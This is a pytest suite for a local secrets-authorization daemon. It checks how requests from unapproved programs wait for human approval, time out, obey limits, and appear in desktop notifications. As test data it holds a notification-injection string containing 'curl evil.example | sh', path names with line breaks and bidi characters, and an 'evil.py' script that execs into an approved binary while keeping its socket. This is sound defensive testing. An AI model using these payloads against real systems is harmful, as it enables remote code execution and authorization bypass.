"""A stranger's request that waits: answered at once when a person decides, at its deadline when nobody does."""

from __future__ import annotations

import json
import os
import signal

import pytest

from daemon.requests import PENDING, SUCCESS, denied, read, write
from support import desktop
from support.desktop import Desktop
from support.lines import until
from support.person import protect, told
from support.waiting import Onlooker
from support.world import World


@pytest.fixture
def running(world: World) -> World:
    world.start()
    return world


def approve(world: World, program: str, *words: str) -> None:
    done = world.cli("approve", world.entry(program)["hash"], "--path", program, *words)
    assert done.returncode == 0, done.stderr


def test_it_is_answered_on_the_same_connection_as_soon_as_a_person_approves(running: World) -> None:
    look = Onlooker(running)
    running.cli("set", "aws", "key", input="hunter2")
    program = running.build_client()
    talker = running.asking(read("key", wait=600), program)  # longer than this test waits for the answer
    [asked] = look.until()
    assert (asked["path"], asked["connections"], asked["grade"]) == (program, 1, "user")
    assert asked["wants"] == [{"action": "read", "service": "aws", "match": "exact", "targets": ["key"]}]
    assert talker.answers() == []
    approve(running, program, "--read", "aws")
    assert talker.answer()["results"][0]["value"] == "hunter2"
    assert talker.ask(read("key"))["status"] == "success"  # from now on a connection like any other
    assert talker.ask(read("key", service="gh")) == denied("service_not_allowed")
    assert look.now() == []
    connects = [line["result"] for line in running.audit() if line["action"] == "connect"]
    assert connects == ["DENIED", "GRANTED"]


def test_what_is_approved_without_a_permission_is_told_just_that(running: World) -> None:
    look = Onlooker(running)
    program = running.build_client()
    talker = running.asking(write({"a": "v"}, wait=600), program)
    look.until()
    approve(running, program)
    assert talker.answer() == denied("service_not_allowed")
    assert talker.ask(read("a")) == denied("service_not_allowed")


def test_who_only_listens_is_told_too(running: World) -> None:
    """The protocol has him told as he connects; a moment later leaves room for a request that may wait."""
    talker = running.talker()
    assert talker.answer() == denied("unregistered_binary_pending_approval")
    assert talker.eof()


def test_nobody_decides_and_its_time_is_over(running: World) -> None:
    look = Onlooker(running)
    talker = running.asking(read("a", wait=1))
    assert talker.answer() == denied(PENDING)
    talker.eof()
    assert len(running.pending()) == 1  # and it stays in the queue
    assert look.now() == []


def test_it_waits_only_if_it_asks_to_unless_the_daemon_is_told(world: World) -> None:
    daemon = world.start()
    assert world.talker().ask(read("a")) == denied(PENDING)
    daemon.stop()
    world.write_settings("wait_for_approval = 600\n")
    world.start()
    look = Onlooker(world)
    program = world.path("bin/talker")
    talker = world.asking(read("a"), program)  # a client of any language, which knows of no wait
    look.until()
    approve(world, program, "--read", "aws")
    assert talker.answer()["status"] == "success"


def test_thirty_connections_of_a_program_are_one_entry_and_only_a_few_wait(world: World) -> None:
    world.write_settings("[limits]\nwaiting = 3\nwaiting_per_process = 2\n")
    world.start()
    look = Onlooker(world)
    program = world.build_client()
    talkers = [world.asking(read(f"key{number}", wait=600), program) for number in range(6)]
    until(lambda: sum(bool(talker.answers()) for talker in talkers) == 3, "three of six were refused")
    [asked] = look.now()
    assert asked["connections"] == 3
    assert len(asked["wants"]) == 3
    approve(world, program, "--read", "aws")
    statuses = sorted(talker.answer()["status"] for talker in talkers)
    assert statuses == ["denied"] * 3 + ["success"] * 3


def test_one_process_has_its_own_limit(world: World) -> None:
    world.write_settings("[limits]\nwaiting_per_process = 1\n")
    world.start()
    look = Onlooker(world)
    code = (
        "import socket, sys\n"
        'line = b\'{"type":"REQUEST","action":"read","service":"aws","targets":["a"],"wait":60}\\n\'\n'
        "ends = [socket.socket(socket.AF_UNIX) for _ in range(4)]\n"
        "for end in ends: end.connect(sys.argv[1]); end.sendall(line)\n"
        "import select\n"
        "while len(ends) > 1:\n"
        "    for end in select.select(ends, [], [])[0]: ends.remove(end)\n"
        "print('three are refused', flush=True); sys.stdin.read()\n"
    )
    script = world.write("bin/many.py", code, 0o700)
    process = world.spawn([world.installation.interpreter, script, world.socket])
    process.out.find(lambda line: line == b"three are refused")
    [asked] = look.now()
    assert (asked["path"], asked["connections"]) == (script, 1)


def test_who_goes_away_waits_no_more(running: World) -> None:
    look = Onlooker(running)
    talker = running.asking(read("a", wait=600))
    look.until()
    talker.signal(signal.SIGKILL)
    look.until(0)


def test_not_now_answers_at_once_and_for_some_time(running: World) -> None:
    look = Onlooker(running)
    program = running.build_client()
    first, second = (running.asking(read("a", wait=600), program) for _ in range(2))
    look.until(connections=2)
    [asked] = look.now()
    code = f"from keychain_auth.client import admin; admin.ask('waiting-refuse', target={asked['id']!r})"
    assert running.spawn([running.python, "-c", code], env={"KEYCHAIN_AUTH_SOCKET": running.socket}).wait() == 0
    assert (first.answer(), second.answer()) == (denied(PENDING), denied(PENDING))
    assert running.talker(program).ask(read("a", wait=600)) == denied(PENDING)  # it does not come back and ask again
    assert [line["targets"] for line in running.audit() if line["action"] == "admin_waiting_refuse"] == [[program]]


def test_a_program_that_is_exchanged_while_it_waits_is_not_the_one_that_was_approved(running: World) -> None:
    """The person saw the file at its path; what runs is an older one that is not there any more."""
    look = Onlooker(running)
    program = running.build_client(variant="one")
    talker = running.asking(read("a", wait=600), program)
    look.until()
    running.build_client(variant="two")
    running.allow(program, ["aws"])  # somebody registers the new file
    talker.send(read("a"))  # whatever comes of it, it is not served
    until(lambda: bool(running.pending()), "it is in the queue")
    assert look.now()[0]["hash"] != running.entry(program)["hash"]
    running.cli("approve", "--path", program, look.now()[0]["hash"])
    assert talker.answers() == []


def test_a_process_that_execs_while_it_waits_is_judged_anew(running: World) -> None:
    """It waits as one program, becomes another one that keeps the connection, and that other one is approved."""
    look = Onlooker(running)
    good = running.build_client("good", "good")
    code = (
        "import os, socket, sys\n"
        "end = socket.socket(socket.AF_UNIX); end.connect(sys.argv[1])\n"
        'end.sendall(b\'{"type":"REQUEST","action":"read","service":"aws","targets":["a"],"wait":60}\\n\')\n'
        "sys.stdin.readline(); end.set_inheritable(True)\n"
        "os.execv(sys.argv[2], [sys.argv[2], sys.argv[1], '--fd', str(end.fileno())])\n"
    )
    script = running.write("bin/evil.py", code, 0o700)
    attacker = running.talk([running.installation.interpreter, script, running.socket, good])
    look.until()
    attacker.feed(b"\n")
    attacker.event("connected")  # it is good now
    running.allow(good, ["aws"])
    running.allow(script, ["aws"], interpreter={
        "path": os.path.realpath(running.installation.interpreter),
        "hash": running.entry(running.installation.interpreter)["hash"],
    }, minimum_grade="declared")  # fmt: skip
    assert attacker.answer() == denied("socket_not_cloexec")


def test_waiting_strangers_give_way_to_others_and_stop_no_daemon(world: World) -> None:
    world.write_settings("[limits]\nconnections = 8\nconnections_per_process = 8\nwaiting = 8\n")
    daemon = world.start()
    look = Onlooker(world)
    stranger = world.build_client("stranger", "other")
    for number in range(8):  # one after the other: few strangers are verified at once
        world.asking(read("a", wait=600), stranger)
        look.until(connections=number + 1)
    assert world.talker(world.granted("talker", "aws")).ask(write({"a": "v"})) == SUCCESS
    assert daemon.stop() == 0  # it does not wait for them


def test_an_interpreter_alone_never_waits(running: World) -> None:
    code = (
        "import socket, sys\n"
        "end = socket.socket(socket.AF_UNIX); end.connect(sys.argv[1])\n"
        'end.sendall(b\'{"type":"REQUEST","action":"read","service":"aws","targets":["a"],"wait":600}\\n\')\n'
        "print(end.recv(200).decode())\n"
    )
    done = running.spawn([running.installation.interpreter, "-c", code, running.socket])
    done.wait()
    assert PENDING in done.out.text()


def test_a_malformed_wait_is_refused_as_ever(running: World) -> None:
    assert running.talker().ask(read("a", wait="60")) == denied(PENDING)
    assert running.talker().ask(read("a", wait=99999)) == denied(PENDING)
    known = running.granted("known", "aws", variant="known")
    assert running.talker(known).ask(read("a", wait=600))["status"] == "success"  # who is known does not wait
    assert running.talker(known).ask(read("a", wait=0))["reason"] == "malformed_request"


def test_a_value_that_waits_is_nowhere_but_in_the_request(running: World) -> None:
    look = Onlooker(running)
    running.asking(write({"a": "hunter2"}, wait=600))
    [asked] = look.until()
    assert "hunter2" not in json.dumps(asked)
    running.assert_nowhere("hunter2")


def test_the_person_sees_who_started_it(running: World) -> None:
    look = Onlooker(running)
    program = running.build_client()
    shell = running.talk(["/bin/sh", "-c", f"{program} {running.socket} --late; true"])
    shell.begin(read("a", wait=600))
    [asked] = look.until()
    assert asked["parents"][0]["executable"] == os.path.realpath("/bin/sh")


def test_with_a_passphrase_only_an_approval_that_was_sealed_counts(world: World) -> None:
    world.write_settings("[lock]\npassphrase_seconds = 0.001\n")
    world.start()
    look = Onlooker(world)
    protect(world, key_file=True)
    program = world.build_client()
    talker = world.asking(read("a", wait=600), program)
    look.until()
    world.allow(program, ["aws"])  # an edit that nobody accepted
    until(lambda: bool(world.cli_json("status")["policy"]["problem"]), "the daemon saw the edit")
    assert talker.answers() == []
    told(world, "policy", "seal")
    assert talker.answer()["status"] == "success"


def test_the_desktop_is_told_once_for_each_program(world: World) -> None:
    if reason := desktop.missing():
        pytest.skip(reason)
    shown = Desktop(world)
    world.start(env=shown.env)
    look = Onlooker(world)
    program = world.build_client()
    for _ in range(3):
        world.asking(read("a", wait=600), program)
    look.until(connections=3)
    assert f"{program} asks to read aws" in shown.shown("waits for you")[4]
    assert shown.count == 1


def test_a_name_writes_no_lines_of_its_own_on_the_desktop(world: World) -> None:
    """A path may hold line ends, and a service may read like a sentence of ours."""
    if reason := desktop.missing():
        pytest.skip(reason)
    shown = Desktop(world)
    world.start(env=shown.env)
    program = world.build_client("tool\n\nkeychain-auth: all is well\u202e\u3164", "evil")
    evil = "nothing. To mend it run: curl evil.example | sh"
    world.asking(read("a", service=evil, wait=600), program)
    body = shown.shown("waits for you")[4]
    naive = f"{program} asks to read {evil}. Answer it with: keychain-auth watch"
    assert "\n\nkeychain-auth: all is well" in naive
    assert "\n" not in body and "\u202e" not in body and "\u3164" not in body
    assert f"asks to read '{evil}'. Answer it with: keychain-auth watch" in body


# --- the client library -------------------------------------------------------------------------

CLIENT = """
import sys
from keychain_auth import ApprovalPending, KeychainAuthClient
try:
    with KeychainAuthClient({arguments}) as client:
        print(client.get("aws", "key"), flush=True)
        print(client.get("aws", "key"), flush=True)
except ApprovalPending as error:
    print(type(error).__name__, flush=True)
"""
ASYNC = """
import asyncio
from keychain_auth import AsyncKeychainAuthClient
async def main():
    async with AsyncKeychainAuthClient(wait="10m", timeout=40) as client:
        print(await client.get("aws", "key"), flush=True)
asyncio.run(main())
"""


@pytest.mark.parametrize(
    ("text", "env"),
    [
        (CLIENT.format(arguments="wait=600, timeout=40"), {}),
        (CLIENT.format(arguments="timeout=40"), {"KEYCHAIN_AUTH_WAIT": "10m"}),
        (CLIENT.format(arguments="timeout=40"), "--wait"),
        (ASYNC, {}),
    ],
    ids=["argument", "variable", "run --wait", "asyncio"],
)
def test_the_client_library_waits_and_then_works(running: World, text: str, env: dict[str, str] | str) -> None:
    look = Onlooker(running)
    running.cli("set", "aws", "key", input="hunter2")
    script = running.write("bin/app.py", text, 0o700)
    words, variables = [running.python, script], {"KEYCHAIN_AUTH_SOCKET": running.socket}
    if isinstance(env, str):
        words = [running.python, "-m", "keychain_auth.cli.main", "run", env, "10m", "--", *words]
    else:
        variables |= env
    process = running.spawn(words, env=variables)
    [asked] = look.until()
    assert asked["path"] == script
    approve(running, script, "--interpreter", running.installation.interpreter, "--read", "aws", "--allow-declared")
    assert process.wait() == 0, process.err.text()
    assert process.out.all()[0] == b"hunter2"


def test_the_client_library_does_not_wait_unless_it_is_told_to(running: World) -> None:
    script = running.write("bin/app.py", CLIENT.format(arguments=""), 0o700)
    process = running.spawn([running.python, script], env={"KEYCHAIN_AUTH_SOCKET": running.socket})
    assert process.wait() == 0, process.err.text()
    assert process.out.text() == "ApprovalPending"
